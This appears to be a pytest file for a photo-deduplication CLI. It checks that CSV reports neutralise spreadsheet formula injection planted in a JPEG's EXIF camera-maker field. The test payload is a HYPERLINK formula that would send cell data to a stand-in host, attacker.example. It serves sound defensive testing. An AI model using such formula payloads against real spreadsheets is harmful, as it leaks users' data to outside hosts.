"""CSV injection: text a spreadsheet would run as a formula (here a camera maker written into a
real JPEG's EXIF) reaches the CSV neutralised with a leading ``'``; the JSON keeps it exactly."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import photo
from PIL import Image

from dedupdb.cli import cli
from dedupdb.render.csv_report import csv_cell

MAKE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full picture")'
MODEL = "Pro"
TAG_MAKE, TAG_MODEL = 0x010F, 0x0110


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_is_prefixed(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"


def test_other_cells_and_numbers_are_left_as_they_are() -> None:
    assert csv_cell("/photos/a.jpg") == "/photos/a.jpg"
    assert csv_cell("Canon EOS 5D =x") == "Canon EOS 5D =x"
    assert csv_cell("") == ""
    assert csv_cell(-3) == -3
    assert csv_cell(0.5) == 0.5


def test_exif_camera_maker_formula_is_neutralised_in_the_csv(tmp_path: Path, db_path: Path) -> None:
    root = tmp_path / "photos"
    root.mkdir()
    exif = Image.Exif()
    exif[TAG_MAKE], exif[TAG_MODEL] = MAKE, MODEL
    photo(7).save(root / "a.jpg", quality=90, exif=exif.tobytes())
    shutil.copy2(root / "a.jpg", root / "b.jpg")
    db = ["--db", str(db_path)]
    indexed = CliRunner().invoke(cli, ["index", str(root), "--workers", "1", "-q", *db])
    assert indexed.exit_code == 0, indexed.output

    as_csv = CliRunner().invoke(cli, ["report", "--csv", "-", *db])
    assert as_csv.exit_code == 0, as_csv.output
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert len(rows) == 2
    assert {r["camera"] for r in rows} == {f"'{MAKE} {MODEL}"}
    assert not any(value.startswith("=") for row in rows for value in row.values())
    assert {r["path"] for r in rows} == {str(root / "a.jpg"), str(root / "b.jpg")}

    as_json = CliRunner().invoke(cli, ["report", "--json", "-", *db])
    members = json.loads(as_json.stdout)["clusters"][0]["members"]
    assert {m["camera"] for m in members} == {f"{MAKE} {MODEL}"}
